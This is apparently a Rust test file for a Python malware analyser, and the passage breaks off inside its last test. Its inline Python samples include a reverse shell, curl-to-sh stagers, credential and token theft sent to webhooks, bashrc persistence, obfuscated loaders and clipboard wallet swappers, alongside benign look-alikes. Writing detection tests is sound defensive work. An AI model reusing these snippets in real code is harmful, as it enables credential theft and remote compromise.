//! The Python analyser on code shaped like real attacks, and on benign look-alikes.

mod common;

use customs_analyze::{BehaviourKind as K, python};

fn kinds(src: &str) -> Vec<K> {
    let mut k: Vec<K> = python::analyze(src)
        .behaviours
        .iter()
        .map(|b| b.kind)
        .collect();
    k.sort();
    k.dedup();
    k
}

fn details(src: &str) -> Vec<String> {
    python::analyze(src)
        .behaviours
        .iter()
        .map(|b| format!("{:?}: {}", b.kind, b.detail))
        .collect()
}

#[test]
fn base64_loader_through_aliases() {
    let src = "import base64 as b\nfrom builtins import exec as run\npayload = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzQ1LjYxLjEuMi94IHwgc2giKQ=='\nrun(b.b64decode(payload))\n";
    let d = details(src);
    assert!(kinds(src).contains(&K::DecodeExecute), "{d:?}");
    // The decoded payload is analysed too: it runs a download piped into a shell.
    assert!(
        d.iter()
            .any(|x| x.contains("in the decoded payload") && x.contains("download piped into sh")),
        "{d:?}"
    );
}

#[test]
fn getattr_builtins_with_folded_name() {
    let src = "import zlib, base64\nf = getattr(__builtins__, 'ex' + 'ec')\nf(zlib.decompress(base64.b64decode(DATA)))\n";
    let k = kinds(src);
    assert!(k.contains(&K::DecodeExecute), "{:?}", details(src));
    assert!(k.contains(&K::Obfuscation), "{:?}", details(src));
}

#[test]
fn dunder_import_of_assembled_name() {
    let src = "m = __import__('sub' + 'process')\nm.Popen(['curl', 'http://45.61.1.2/a', '-o', '/tmp/a'])\n";
    let d = details(src);
    assert!(d.iter().any(|x| x.contains("subprocess.Popen")), "{d:?}");
    assert!(kinds(src).contains(&K::Obfuscation), "{d:?}");
}

#[test]
fn reversed_string_and_chr_join_decoders() {
    let src = "exec(')(x ;od tropmi'[::-1])\ns = ''.join(chr(c ^ 42) for c in blob)\neval(s)\n";
    let d = details(src);
    // [::-1] of a constant is folded; ''.join(chr(...^...)) is a decoder.
    assert!(
        d.iter().filter(|x| x.starts_with("DecodeExecute")).count() >= 1,
        "{d:?}"
    );
}

#[test]
fn download_write_chmod_run() {
    let src = r#"
import os, urllib.request, subprocess
def install():
    data = urllib.request.urlopen("http://45.61.1.2/payload").read()
    with open("/tmp/.x", "wb") as f:
        f.write(data)
    os.chmod("/tmp/.x", 0o755)
    subprocess.Popen(["/tmp/.x"], start_new_session=True)
"#;
    let k = kinds(src);
    assert!(k.contains(&K::DownloadExecute), "{:?}", details(src));
    assert!(k.contains(&K::SuspiciousDestination));
    assert!(k.contains(&K::HiddenProcess));
}

/// Calls of things whose origin is unknown (a parameter, a local object) are judged by
/// their method name alone when it writes or reads a file: the shortcut that skips other
/// unknown calls must not skip these.
#[test]
fn writes_through_objects_of_unknown_origin() {
    let src = r#"
import requests, subprocess
def save(fh, url):
    fh.write(requests.get(url).content)
    subprocess.call(["./update"])
"#;
    assert!(
        kinds(src).contains(&K::DownloadExecute),
        "{:?}",
        details(src)
    );
    let src = r#"
import os
def plant():
    os.path.expanduser("~/.config/autostart/update.desktop").write_text("Exec=/tmp/.x")
    os.path.expanduser("~/.aws/credentials").read_text()
"#;
    let d = details(src);
    assert!(
        d.iter().any(|d| d.starts_with("Persistence: writes")),
        "{d:?}"
    );
    assert!(
        d.iter().any(|d| d.starts_with("SecretRead: reads")),
        "{d:?}"
    );
    let src = r#"
import os
def steal(p):
    return p(os.path.expanduser("~/.ssh/id_rsa")).read_text()
"#;
    assert!(kinds(src).is_empty(), "{:?}", details(src));
}

#[test]
fn credential_stealer_to_webhook() {
    let src = r#"
import os, requests
from pathlib import Path
key = open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")).read()
tok = os.environ.get("GITHUB_TOKEN")
requests.post("https://discord.com/api/webhooks/1/abc", json={"k": key, "t": tok, "env": dict(os.environ)})
"#;
    let k = kinds(src);
    assert!(k.contains(&K::SecretRead), "{:?}", details(src));
    assert!(k.contains(&K::SecretExfiltration), "{:?}", details(src));
    assert!(k.contains(&K::SuspiciousDestination));
}

#[test]
fn reverse_shell() {
    let src = "import socket,os,pty\ns=socket.socket()\ns.connect(('45.61.1.2',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n";
    assert!(kinds(src).contains(&K::ReverseShell), "{:?}", details(src));
}

#[test]
fn persistence_and_self_delete() {
    let src = "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python3 /tmp/.x &')\nos.remove(__file__)\n";
    let k = kinds(src);
    assert!(k.contains(&K::Persistence), "{:?}", details(src));
    assert!(k.contains(&K::SelfDelete), "{:?}", details(src));
}

#[test]
fn whitespace_hidden_code() {
    let src = format!(
        "print('hello'){}; exec(__import__('base64').b64decode(x))\n",
        " ".repeat(300)
    );
    assert!(kinds(&src).contains(&K::Obfuscation));
    // On a later line, at the offset where the run of spaces starts.
    let src = format!(
        "import os\nprint('hello'){}; exec(x)\nz = 1\n",
        " ".repeat(300)
    );
    let facts = customs_analyze::python::analyze(&src);
    let hidden = facts
        .behaviours
        .iter()
        .find(|b| {
            b.detail
                .starts_with("code hidden after 300 spaces: ; exec(x)")
        })
        .expect("the hidden code is reported");
    assert_eq!(hidden.offset as usize, src.find("  ").expect("spaces"));
    // A table drawn in a docstring, its border far to the right, hides nothing.
    let src = format!("DOC = '''\n│ name │{}│\n'''\n", " ".repeat(190));
    assert!(
        !kinds(&src).contains(&K::Obfuscation),
        "{:?}",
        details(&src)
    );
}

#[test]
fn python2_file_is_noted_not_fatal() {
    let facts = python::analyze("print 'hello'\nimport os\nos.system('id')\n");
    assert!(facts.parse_error.is_some());
    assert!(facts.behaviours.iter().any(|b| b.kind == K::ProcessSpawn));
}

#[test]
fn deep_nesting_is_bounded() {
    let src = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
    let facts = python::analyze(&src);
    assert!(facts.parse_error.is_some());
}

#[test]
fn benign_library_code_stays_quiet() {
    // A library that runs git in a function, reads its own config, and fetches JSON.
    let src = r#"
import subprocess, json, os
import requests
def version():
    return subprocess.check_output(["git", "describe"]).decode()
def fetch(url):
    return requests.get(url, timeout=5).json()
CONFIG = os.path.join(os.path.dirname(__file__), "config.json")
"#;
    let k = kinds(src);
    assert!(
        !k.iter().any(|k| matches!(
            k,
            K::DecodeExecute | K::DownloadExecute | K::SecretExfiltration | K::SecretRead
        )),
        "{k:?}"
    );
    let facts = python::analyze(src);
    assert!(
        facts.behaviours.iter().all(|b| !b.top_level),
        "library calls are inside functions"
    );
}

#[test]
fn setuptools_build_ext_with_cmake_is_only_a_process() {
    let src = r#"
import subprocess
from setuptools import setup
from setuptools.command.build_ext import build_ext
class CMakeBuild(build_ext):
    def run(self):
        subprocess.check_call(["cmake", "--build", "."])
setup(name="x", cmdclass={"build_ext": CMakeBuild})
"#;
    assert_eq!(kinds(src), vec![K::ProcessSpawn]);
}

#[test]
fn sinks_inside_the_arguments_of_unremarkable_calls() {
    // The outer calls name known functions that no check is about, and their arguments
    // are left unevaluated there; every call among them is judged on its own.
    let src = "import base64, json, logging, os, subprocess\n\
               print(json.dumps(subprocess.run(['sh', '-c', base64.b64decode(C)])))\n\
               logging.info(exec(base64.b64decode(P)))\n\
               os.path.join(open(os.path.expanduser('~/.ssh/id_rsa')).read(), 'x')\n";
    let d = details(src);
    let k = kinds(src);
    assert!(k.contains(&K::DecodeExecute), "{d:?}");
    assert!(k.contains(&K::SecretRead), "{d:?}");
    assert!(
        d.iter().any(|x| x.contains("decoded data reaches exec()")),
        "{d:?}"
    );
    assert!(d.iter().any(|x| x.contains("subprocess.run")), "{d:?}");
}

fn has(d: &[String], kind: &str, text: &str) -> bool {
    d.iter()
        .any(|x| x.starts_with(&format!("{kind}:")) && x.contains(text))
}

// Flows through storage: data written to a file and read back, or run, in one scope.

#[test]
fn decoded_data_staged_through_a_temp_file_then_executed() {
    let src = r#"
import base64, os, tempfile
BLOB = "cHJpbnQoJ2hlbGxvJyk="
def _stage():
    data = base64.b64decode(BLOB)
    tmp = os.path.join(tempfile.gettempdir(), "cache_" + str(os.getpid()))
    with open(tmp, "wb") as out:
        out.write(data)
    with open(tmp, "rb") as src:
        code = src.read()
    exec(code)
_stage()
"#;
    let d = details(src);
    assert!(has(&d, "DecodeExecute", "exec()"), "{d:?}");
}

#[test]
fn a_read_of_another_file_after_a_decoded_write_stays_dynamic() {
    let src = r#"
import base64
def render(icon):
    with open("icon.png", "wb") as out:
        out.write(base64.b64decode(icon))
    with open("settings.py") as f:
        exec(f.read())
"#;
    let d = details(src);
    assert!(!d.iter().any(|x| x.starts_with("DecodeExecute")), "{d:?}");
    assert!(has(&d, "DynamicExecute", "exec()"), "{d:?}");
}

#[test]
fn decoded_data_written_then_loaded_or_run() {
    // A library decrypted by a local XOR helper, written out and loaded; a script
    // written to a temp file and given to the interpreter.
    let src = r#"
import ctypes, os, subprocess, sys, tempfile
def unmask(buf, k=0x41):
    return bytes(c ^ k for c in buf)
def load(blob):
    lib = os.path.join(tempfile.gettempdir(), "helper.so")
    with open(lib, "wb") as fh:
        fh.write(unmask(blob))
    ctypes.CDLL(lib)
def stage():
    fd, script = tempfile.mkstemp(suffix=".py")
    with os.fdopen(fd, "w") as fh:
        fh.write(bytes(b ^ 7 for b in [110, 106, 119, 104, 117, 115, 39, 104, 116, 13, 104, 116, 41, 116, 126, 116, 115, 98, 106, 47, 32, 110, 99, 32, 46]).decode())
    subprocess.run([sys.executable, script])
"#;
    let d = details(src);
    assert!(
        has(&d, "DecodeExecute", "loaded with ctypes.CDLL()"),
        "{d:?}"
    );
    assert!(
        has(&d, "DecodeExecute", "run with subprocess.run()"),
        "{d:?}"
    );
    assert!(has(&d, "DecodeExecute", "helper.so"), "{d:?}");
    // The script's text is folded (b ^ 7 over constants) and analysed as the code run.
    assert!(
        has(
            &d,
            "ProcessSpawn",
            "in the decoded payload: os.system(): id"
        ),
        "{d:?}"
    );
}

#[test]
fn decoded_write_and_an_unrelated_command_stay_apart() {
    let src = r#"
import base64, subprocess
def export(doc):
    with open("report.pdf", "wb") as fh:
        fh.write(base64.b64decode(doc))
    subprocess.run(["git", "status"])
"#;
    let d = details(src);
    assert!(!d.iter().any(|x| x.starts_with("DecodeExecute")), "{d:?}");
}

// XOR decoders: helpers, loops, comprehensions.

#[test]
fn xor_helper_and_xor_loop_are_decoders() {
    let src = r#"
import base64
KEY = b"q7"
def _x(data, key):
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))
exec(_x(base64.b64decode(PAYLOAD), KEY))
def unscramble(data):
    out = bytearray()
    for i in range(len(data)):
        out.append(data[i] ^ 0x5A)
    return out
eval(unscramble(STUFF).decode())
"#;
    let d = details(src);
    assert_eq!(
        d.iter().filter(|x| x.starts_with("DecodeExecute")).count(),
        2,
        "{d:?}"
    );
}

#[test]
fn websocket_masking_is_not_execution() {
    let src = r#"
import os
def mask(payload, key):
    return bytes(b ^ key[i % 4] for i, b in enumerate(payload))
def send(sock, payload):
    key = os.urandom(4)
    sock.sendall(key + mask(payload, key))
"#;
    let k = kinds(src);
    assert!(
        !k.contains(&K::DecodeExecute) && !k.contains(&K::SecretExfiltration),
        "{:?}",
        details(src)
    );
}

#[test]
fn compression_and_marshal_decoders_reach_execution() {
    let src = r#"
import marshal, zlib, lzma, types, base64, codecs
exec(marshal.loads(zlib.decompress(base64.b64decode(A))))
f = types.FunctionType(marshal.loads(lzma.decompress(B)), globals())
eval(codecs.decode(C, "rot13"))
exec(compile(bytes.fromhex(D), "<x>", "exec"))
"#;
    let d = details(src);
    for sink in ["exec()", "FunctionType()", "eval()", "compile()"] {
        assert!(has(&d, "DecodeExecute", sink), "{sink}: {d:?}");
    }
}

#[test]
fn pickle_of_local_data_is_not_a_download_but_a_decoded_blob_is_a_payload() {
    let local = r#"
import pickle, base64
with open("model.pkl", "rb") as f:
    model = pickle.loads(f.read())
def receive(message):
    return pickle.loads(base64.b64decode(message["body"]))
"#;
    let k = kinds(local);
    assert!(
        !k.contains(&K::DownloadExecute) && !k.contains(&K::DecodeExecute),
        "{:?}",
        details(local)
    );
    // A response pickled and unpickled again (a round-trip test) is local data.
    let round_trip =
        "import pickle, requests\nr = requests.get(URL)\nr2 = pickle.loads(pickle.dumps(r))\n";
    assert!(
        !kinds(round_trip).contains(&K::DownloadExecute),
        "{:?}",
        details(round_trip)
    );
    let blob = "import pickle, base64\nobj = pickle.loads(base64.b64decode('gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))\n";
    assert!(
        kinds(blob).contains(&K::DecodeExecute),
        "{:?}",
        details(blob)
    );
}

// Values returned by functions of the file.

#[test]
fn return_values_of_local_functions_carry_taint_and_constants() {
    let src = r#"
import os, requests
def fetch():
    r = requests.get("http://198.51.100.7/stage")
    return r.text
def name():
    return "sys" + "tem"
def run():
    exec(fetch())
    getattr(os, name())("id")
"#;
    let d = details(src);
    assert!(has(&d, "DownloadExecute", "exec()"), "{d:?}");
    assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
}

#[test]
fn parameters_hide_module_names() {
    let src = "import os\ncmd = 'ls -l'\ndef run(cmd):\n    os.system(cmd)\n";
    let d = details(src);
    assert!(has(&d, "ProcessSpawn", "built at run time"), "{d:?}");
}

// Text built from character codes.

#[test]
fn chr_arithmetic_and_joins_fold_to_their_text() {
    // Each builds the command "curl x|sh" its own way.
    let cases = [
        "''.join(chr(c - 3) for c in [102, 120, 117, 111, 35, 123, 127, 118, 107])",
        "''.join(map(chr, [99, 117, 114, 108, 32, 120, 124, 115, 104]))",
        "''.join([chr(c ^ 1) for c in [98, 116, 115, 109, 33, 121, 125, 114, 105]])",
        "chr(0x63)+chr(117)+chr(100+14)+chr(108)+chr(32)+chr(ord('x'))+chr(124)+chr(115)+chr(52*2)",
        "bytes([99, 117, 114, 108, 32, 120, 124, 115, 104]).decode()",
        "''.join(reversed('hs|x lruc'))",
        "''.join(map(lambda n: chr(n + 1), [98, 116, 113, 107, 31, 119, 123, 114, 103]))",
    ];
    for expr in cases {
        let src = format!("import os\nc = {expr}\nos.system(c)\n");
        let d = details(&src);
        assert!(
            has(&d, "ProcessSpawn", "os.system(): curl x|sh"),
            "{expr}: {d:?}"
        );
    }
    // A key bound to a name is folded too.
    let src = "import os\nK = 0x20\ncodes = [67, 85, 82, 76]\nos.system(''.join(chr(c ^ K) for c in codes))\n";
    assert!(
        has(&details(src), "ProcessSpawn", "os.system(): curl"),
        "{:?}",
        details(src)
    );
}

#[test]
fn sinks_reached_through_assembled_names() {
    let src = r#"
import importlib
getattr(__import__('o' + 's'), 'sys' + 'tem')('id')
__builtins__.__dict__['ex' + 'ec'](compile(X, 'f', 'exec'))
globals()['__builtins__'].eval(Y)
m = importlib.import_module(''.join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115])))
m.call(['uname'])
"#;
    let d = details(src);
    assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
    assert!(has(&d, "DynamicExecute", "exec()"), "{d:?}");
    assert!(has(&d, "DynamicExecute", "eval()"), "{d:?}");
    assert!(has(&d, "ProcessSpawn", "subprocess.call(): uname"), "{d:?}");
}

// Payloads in files shipped with the package.

#[test]
fn payload_decoded_from_a_package_data_file() {
    let src = r#"
import os, base64, json, pkgutil
from importlib import resources
HERE = os.path.dirname(os.path.abspath(__file__))
def _glyphs():
    raw = resources.files(__package__).joinpath("fonts", "icons.woff").read_bytes()
    exec(bytes(b ^ 0x33 for b in raw[64:]))
def _theme():
    theme = json.loads(pkgutil.get_data(__name__, "data/theme.json"))
    exec(base64.b64decode(theme["init"]))
with open(os.path.join(HERE, "assets", "banner.gif"), "rb") as fh:
    exec(fh.read()[-900:].translate(bytes(range(255, -1, -1))))
"#;
    let d = details(src);
    assert!(
        d.iter()
            .filter(|x| x.starts_with("DecodeExecute") && x.contains("package"))
            .count()
            >= 2,
        "{d:?}"
    );
}

#[test]
fn version_file_read_by_setup_is_not_a_payload() {
    let src = r#"
import os
here = os.path.abspath(os.path.dirname(__file__))
about = {}
with open(os.path.join(here, "pkg", "__version__.py")) as f:
    exec(f.read(), about)
"#;
    let k = kinds(src);
    assert!(!k.contains(&K::DecodeExecute), "{:?}", details(src));
}

// Source codecs.

#[test]
fn unusual_source_codecs_are_decoded_and_analysed() {
    let utf7 =
        "# coding: utf-7\nimport os\n# note +AAo-os.system('curl http://203.0.113.9/x +AHw- sh')\n";
    let d = details(utf7);
    assert!(has(&d, "Obfuscation", "'utf-7'"), "{d:?}");
    assert!(has(&d, "ProcessSpawn", "codec decodes it"), "{d:?}");

    let escaped = "# -*- coding: unicode_escape -*-\n\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x0a\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x69\\x64\\x27\\x29\n";
    let d = details(escaped);
    assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
    // The declaration is reported once, not again inside the decoded code.
    assert_eq!(
        d.iter()
            .filter(|x| x.contains("declares the source codec"))
            .count(),
        1,
        "{d:?}"
    );

    let rot = "# coding: rot13\nvzcbeg bf\nbf.flfgrz('vq')\n";
    assert!(
        has(&details(rot), "ProcessSpawn", "os.system()"),
        "{:?}",
        details(rot)
    );

    // A codec the package registers itself, its body base64.
    let own = "# -*- coding: pkg_b64 -*-\naW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo=\n";
    let d = details(own);
    assert!(has(&d, "Obfuscation", "'pkg_b64'"), "{d:?}");
    assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
}

#[test]
fn ordinary_source_encodings_stay_quiet() {
    for codec in [
        "utf-8",
        "latin-1",
        "iso-8859-15",
        "cp1252",
        "UTF8",
        "ascii",
        "euc-jp",
    ] {
        let src = format!("# -*- coding: {codec} -*-\nx = 'a + b'\n");
        assert!(kinds(&src).is_empty(), "{codec}: {:?}", details(&src));
    }
}

#[test]
fn constant_code_hidden_from_reading_reaches_execution() {
    let src = r#"
import os
exec("')di'(metsys.so ;so tropmi"[::-1])
os.system(''.join(chr(c) for c in [105, 100]))
_ns = vars(__import__("builtins"))
_ns["ex" "ec"](__import__("urllib.request", fromlist=["x"]).urlopen(U).read())
"#;
    let d = details(src);
    assert!(has(&d, "DecodeExecute", "reaches exec()"), "{d:?}");
    assert!(
        has(
            &d,
            "ProcessSpawn",
            "in the decoded payload: os.system(): id"
        ),
        "{d:?}"
    );
    assert!(
        has(&d, "DecodeExecute", "os.system() runs a command hidden"),
        "{d:?}"
    );
    assert!(has(&d, "DownloadExecute", "exec()"), "{d:?}");
    // Plain constant code is analysed, not called hidden.
    let plain = "exec('import os\\nos.system(\"id\")')\n";
    let d = details(plain);
    assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
    assert!(!d.iter().any(|x| x.starts_with("DecodeExecute")), "{d:?}");
}

#[test]
fn a_run_before_a_download_is_written_or_of_another_file_is_not_its_execution() {
    let src = r#"
import subprocess, urllib.request
def fetch(url):
    subprocess.run(["git", "fetch"])
    data = urllib.request.urlopen(url).read()
    with open("archive.zip", "wb") as f:
        f.write(data)
    subprocess.run(["ninja"], cwd="build")
"#;
    assert!(
        !kinds(src).contains(&K::DownloadExecute),
        "{:?}",
        details(src)
    );
    let src = r#"
import os, subprocess, urllib.request
def fetch(url):
    data = urllib.request.urlopen(url).read()
    with open("tool.bin", "wb") as f:
        f.write(data)
    os.chmod("tool.bin", 0o755)
    subprocess.run(["./tool.bin", "--quiet"])
"#;
    let d = details(src);
    assert!(has(&d, "DownloadExecute", "made executable"), "{d:?}");
    assert!(
        has(&d, "DownloadExecute", "run with subprocess.run()"),
        "{d:?}"
    );
}

#[test]
fn inline_code_given_to_the_interpreter_is_analysed() {
    let src = r#"
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import zlib, base64; exec(zlib.decompress(base64.b64decode(Z)))"])
subprocess.run(["python3", "-c", "import os; os.system('id')"])
subprocess.run(["git", "-c", "user.name=x", "commit"])
"#;
    let d = details(src);
    assert!(
        has(
            &d,
            "DecodeExecute",
            "in the decoded payload: decoded data reaches exec()"
        ),
        "{d:?}"
    );
    assert!(
        has(
            &d,
            "ProcessSpawn",
            "in the decoded payload: os.system(): id"
        ),
        "{d:?}"
    );
    // `git -c` is not an interpreter: only the two payloads above are analysed.
    assert_eq!(
        d.iter()
            .filter(|x| x.contains("in the decoded payload") && !x.starts_with("HostRecon"))
            .count(),
        2,
        "{d:?}"
    );
}

#[test]
fn restricting_permissions_of_decoded_output_is_not_making_it_executable() {
    let src = r#"
import base64, os
def save(body, outfile):
    with open(outfile, "wb") as fp:
        fp.write(base64.b64decode(body))
    os.chmod(outfile, 0o600)
"#;
    assert!(
        !kinds(src).contains(&K::DecodeExecute),
        "{:?}",
        details(src)
    );
    let src = src.replace("0o600", "0o755");
    assert!(
        kinds(&src).contains(&K::DecodeExecute),
        "{:?}",
        details(&src)
    );
}

#[test]
fn a_client_sending_its_own_token_is_not_exfiltration() {
    let src = r#"
import os, requests
def token():
    return os.environ.get("SERVICE_API_TOKEN")
def get(path):
    return requests.get("https://api.example.invalid/" + path, headers={"Authorization": token()}).json()
"#;
    assert!(
        !kinds(src).contains(&K::SecretExfiltration),
        "{:?}",
        details(src)
    );
}

#[test]
fn constant_code_dropped_to_a_file_and_run_by_the_interpreter() {
    // A stage two written out as a literal, then started with the running interpreter
    // through aliased imports: what the stage does is what the file does.
    let src = "from os import system as launch\nimport sys as s\nimport tempfile\nstage = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\nstage.write(b\"import urllib.request as u; exec(u.urlopen('http://stage.invalid/two').read())\")\nstage.close()\nlaunch(f\"{s.executable} {stage.name} &\")\n";
    let d = details(src);
    assert!(
        d.iter().any(|x| x.starts_with("DownloadExecute")
            && x.contains("in the code written to a file and run")),
        "{d:?}"
    );
    // The same file run by something other than Python, or data that is not code, says
    // nothing more than the process start.
    for src in [
        "import os, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b\"import urllib.request as u; exec(u.urlopen('http://stage.invalid/two').read())\")\nf.close()\nos.system(f'notepad {f.name}')\n",
        "import os, sys, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'[tool]\\nname = \"demo\"\\nthreads = 4\\n')\nf.close()\nos.system(f'{sys.executable} -m demo.configure {f.name}')\n",
    ] {
        let d = details(src);
        assert!(!d.iter().any(|x| x.starts_with("DownloadExecute")), "{d:?}");
    }
}

#[test]
fn loop_over_credential_paths_reads_them() {
    // The loop variable stands for each listed path: reading it reads the credentials.
    let src = "import os\ndef collect():\n    home = os.path.expanduser('~')\n    out = {}\n    for rel in ('.cache/notes.txt', '.aws/credentials', '.kube/config'):\n        with open(os.path.join(home, rel)) as fh:\n            out[rel] = fh.read()\n    return out\n";
    let d = details(src);
    assert!(d.iter().any(|x| x.starts_with("SecretRead")), "{d:?}");
    // A loop over ordinary paths reads nothing of note.
    let src = "import os\nfor rel in ('README.md', 'CHANGES.rst'):\n    with open(os.path.join(os.path.dirname(__file__), rel)) as fh:\n        print(fh.read())\n";
    let d = details(src);
    assert!(!d.iter().any(|x| x.starts_with("SecretRead")), "{d:?}");
}

#[test]
fn host_details_sent_home_are_exfiltration() {
    // A probe that reports where it was installed: host, user, system, the output of a
    // reconnaissance command, gathered in one function and sent from another.
    for src in [
        "import socket, getpass, requests\nrequests.post('https://collect.invalid/p', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
        "import os, platform, urllib.request\ndef gather():\n    return {'sys': ' '.join(platform.uname()), 'user': os.environ.get('USER', '')}\ndef send():\n    data = json.dumps(gather()).encode()\n    urllib.request.urlopen('https://collect.invalid/b', data=data)\nsend()\n",
        "import subprocess, socket, binascii\nwho = subprocess.check_output(['whoami']).strip()\nsocket.gethostbyname(binascii.hexlify(who).decode() + '.probe.invalid')\n",
        "import os, platform, urllib.request\nq = '&'.join('{}={}'.format(k, v) for k, v in (('n', platform.node()), ('d', os.getcwd())))\nurllib.request.urlopen('http://192.0.2.9/s?' + q)\n",
    ] {
        let d = details(src);
        assert!(
            d.iter()
                .any(|x| x.starts_with("SecretExfiltration") && x.contains("host details")),
            "{src}: {d:?}"
        );
    }
    // Host details used locally, and a request that carries none, are not.
    for src in [
        "import socket, logging, requests\nlogging.info('running on %s', socket.gethostname())\nrequests.get('https://pkg.invalid/latest.json')\n",
        "import platform, requests\nua = 'demo/1.0 python/' + platform.python_version()\nrequests.get('https://pkg.invalid/latest.json', headers={'User-Agent': ua})\n",
        "import socket\naddress = socket.gethostbyname(socket.gethostname())\n",
    ] {
        let d = details(src);
        assert!(
            !d.iter().any(|x| x.starts_with("SecretExfiltration")),
            "{src}: {d:?}"
        );
    }
}

#[test]
fn decoding_what_the_process_is_sent_is_no_payload() {
    // A worker that reads encoded jobs from stdin or from a pipe it is handed: the code
    // it runs comes from its parent, not from the package.
    for src in [
        "import sys, base64, pickle, subprocess\ndef serve():\n    job = pickle.loads(base64.b64decode(sys.stdin.readline().strip()))\n    subprocess.Popen(job['cmd'])\n",
        "import types, marshal, base64\ndef run_next(read_fh):\n    code = marshal.loads(base64.b64decode(read_fh.readline().strip()))\n    return types.FunctionType(code, {})()\n",
    ] {
        let d = details(src);
        assert!(
            !d.iter().any(|x| x.starts_with("DecodeExecute")),
            "{src}: {d:?}"
        );
    }
    // A decoder helper handed a constant blob, and a payload read from a socket, still are.
    for src in [
        "import base64\ndef unpack(blob):\n    exec(base64.b64decode(blob))\nunpack('cHJpbnQoMSk=')\n",
        "import socket, base64\ns = socket.create_connection(('192.0.2.1', 4444))\nexec(base64.b64decode(s.makefile().readline()))\n",
    ] {
        let d = details(src);
        assert!(
            d.iter()
                .any(|x| x.starts_with("DecodeExecute") || x.starts_with("DownloadExecute")),
            "{src}: {d:?}"
        );
    }
}

#[test]
fn resolving_the_hosts_own_name_sends_nothing() {
    let src = "import socket\ndef host():\n    return socket.gethostname().split('.')[0]\ndef address():\n    return socket.gethostbyname(host())\n";
    let d = details(src);
    assert!(
        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
    let src = "import socket\nlabel = socket.gethostname().encode().hex()\nsocket.gethostbyname(label + '.q.probe.invalid')\n";
    let d = details(src);
    assert!(
        d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
}

#[test]
fn code_recovered_from_an_image_and_run() {
    for src in [
        "from stegano import lsb\nexec(lsb.reveal('assets/banner.png'))\n",
        "from PIL import Image\npixels = Image.open('icons/app.png').getdata()\ncode = bytes(p[0] for p in pixels).decode()\nexec(code)\n",
    ] {
        let d = details(src);
        assert!(
            d.iter().any(
                |x| x.starts_with("DecodeExecute") && x.contains("file shipped in the package")
            ),
            "{src}: {d:?}"
        );
    }
    // An image opened to be shown, and code run from a string, are nothing of the kind.
    let src = "from PIL import Image\nlogo = Image.open('logo.png')\nlogo.show()\nexec(compile(template, 'tpl', 'exec'))\n";
    let d = details(src);
    assert!(!d.iter().any(|x| x.starts_with("DecodeExecute")), "{d:?}");
}

#[test]
fn host_details_spliced_into_a_sending_command() {
    let src = "import os, getpass\nos.system(f\"curl -s -d 'u={getpass.getuser()}' https://collect.invalid/h\")\n";
    let d = details(src);
    assert!(
        d.iter()
            .any(|x| x.starts_with("SecretExfiltration") && x.contains("command that sends")),
        "{d:?}"
    );
    // Spliced into a command that sends nothing, they stay on the machine.
    let src = "import os, getpass\nos.system(f\"mkdir -p /tmp/{getpass.getuser()}-cache\")\n";
    let d = details(src);
    assert!(
        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
}

#[test]
fn environment_filtered_by_a_comprehension_is_still_secret() {
    for src in [
        "import json, os, urllib.request\ntokens = {k: v for k, v in os.environ.items() if 'TOKEN' in k}\nurllib.request.urlopen('https://collect.invalid/e', data=json.dumps(tokens).encode())\n",
        "import os, requests\nkeys = {v for k, v in os.environ.items() if k.endswith('_KEY')}\nrequests.post('https://collect.invalid/e', json=list(keys))\n",
    ] {
        let d = details(src);
        assert!(
            d.iter().any(|x| x.starts_with("SecretExfiltration")),
            "{src}: {d:?}"
        );
    }
}

#[test]
fn app_local_storage_under_an_assembled_name_is_a_secret() {
    // The app's folder name is hidden; its local storage is where tokens live.
    let src = "import os, json, urllib.request\nbase = os.path.join(os.getenv('APPDATA'), name_of_app(), 'Local Storage', 'leveldb')\nfound = []\nfor f in os.listdir(base):\n    with open(os.path.join(base, f), errors='ignore') as fh:\n        found.append(fh.read())\nurllib.request.urlopen('https://collect.invalid/t', data=json.dumps(found).encode())\n";
    let d = details(src);
    assert!(d.iter().any(|x| x.starts_with("SecretRead")), "{d:?}");
    assert!(
        d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
}

#[test]
fn clipboard_wallet_swapper() {
    for src in [
        "import re, threading, time, pyperclip\nADDR = re.compile(r'^0x[a-fA-F0-9]{40}$')\ndef watch():\n    while True:\n        if ADDR.match(pyperclip.paste()):\n            pyperclip.copy('0x' + '0' * 40)\n        time.sleep(1)\nthreading.Thread(target=watch, daemon=True).start()\n",
        "import re, subprocess\nPAT = r'^(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$'\ndef put(v):\n    subprocess.run(['xclip', '-selection', 'clipboard'], input=v, text=True)\ndef loop():\n    cur = subprocess.run(['xclip', '-o', '-selection', 'clipboard'], capture_output=True, text=True).stdout\n    if re.match(PAT, cur):\n        put('bc1q' + 'x' * 38)\n",
    ] {
        let d = details(src);
        assert!(
            d.iter()
                .any(|x| x.starts_with("BrowserHijack") && x.contains("clipboard")),
            "{src}: {d:?}"
        );
